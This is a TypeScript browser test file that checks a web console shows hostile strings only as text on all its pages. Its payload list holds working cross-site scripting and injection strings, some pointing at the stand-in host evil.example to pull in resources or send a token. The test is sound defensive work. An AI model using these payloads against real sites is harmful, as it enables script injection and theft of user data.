import { expect, test } from "vitest";
import { shown } from "../../src/console/web/text/shown.ts";
import { findChromium } from "../support/console/pages/chromium.ts";
import { sampleMatrix, sampleNodes, sampleSelections, typeOf } from "../support/console/pages/samples.ts";
import { PagesSite } from "../support/console/pages/site.ts";
import { describeWith } from "../support/describe-with.ts";

/** Texts that would be more than texts in a careless page. None may cause a request, run, or make an element. */
const payloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg/onload=alert(1)>',
  "javascript:alert(1)",
  "<iframe src=https://evil.example/></iframe>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "{{constructor.constructor('alert(1)')()}}",
  "</title></script><base href=https://evil.example/>",
  "<form action=https://evil.example/><input name=token>",
  "\u202egnp.exe",
  "a\u0000b\u001b[31m",
  "&lt;b&gt;already escaped&amp;",
  "__proto__",
  "' onmouseover='alert(1)",
];
/** Elements that no page of the console makes. */
const elements =
  "script:not([src^='/console-']), img, iframe, object, embed, base, style, form[action], link[href*='evil'], b";

describeWith(findChromium(), "texts of strangers", (found) => {
  const site = new PagesSite(found);

  test.each(payloads)("%j is shown as text on every page", async (payload) => {
    const { fixture } = site;
    const type = typeOf("h", { features: [`cpu:${payload}`], nodes: 1 });
    const conditions = [{ type: "Ready", status: "False" as const, reason: payload, message: payload }];
    fixture.machineTypes = new Map([
      [payload, { ...type, name: payload, platform: payload, conditions, yaml: payload }],
    ]);
    const [node] = sampleNodes(1);
    const [selection] = sampleSelections(1);
    if (node === undefined || selection === undefined) throw new Error("there is no sample");
    const features = [{ feature: payload, from: payload }];
    fixture.nodes = [
      { ...node, name: payload, machineType: payload, profile: payload, features, notBelieved: [payload] },
    ];
    fixture.selections = [
      {
        ...selection,
        namespace: payload,
        pod: payload,
        container: payload,
        asked: payload,
        reason: payload,
        node: payload,
      },
    ];
    fixture.lists = [
      {
        ...{ kind: "ManifestList", namespace: payload, name: payload, image: payload, conditions, yaml: payload },
        entries: [{ image: payload, platform: payload, requires: [[payload]], error: payload }],
      },
    ];
    fixture.credentials = [{ id: payload, username: payload, state: "active", repositories: [payload] }];
    fixture.matrix = (image) => {
      const matrix = sampleMatrix(image);
      return {
        ...{ ...matrix, image: payload, list: payload },
        variants: matrix.variants.map((variant) => ({
          ...variant,
          says: payload,
          platform: payload,
          repository: payload,
        })),
        machines: matrix.machines.map((machine, place) => ({
          ...{ ...machine, name: place === 0 ? payload : machine.name, reason: payload, warnings: [payload] },
        })),
      };
    };
    fixture.user = payload;
    const { page } = await site.open();
    const places = [
      "machine-types",
      `machine-types/${encodeURIComponent(payload)}/edit`,
      `machine-types/${encodeURIComponent(payload)}/credentials`,
      `images?${new URLSearchParams({ image: payload })}`,
      "nodes",
      "running",
      "manifest-lists",
    ];
    for (const place of places) {
      await page.evaluate((hash) => {
        location.hash = hash;
      }, `#/${place}`);
      await expect.poll(() => page.getByText(/^Reading /).count()).toBe(0);
      // The last text to come is there.
      await expect.poll(() => page.locator("main").textContent()).toContain(shown(payload).slice(0, 12));
      expect([place, await page.locator(elements).count()]).toEqual([place, 0]);
    }
    // After each test the site looks for dialogs, errors and requests to others.
  });
});
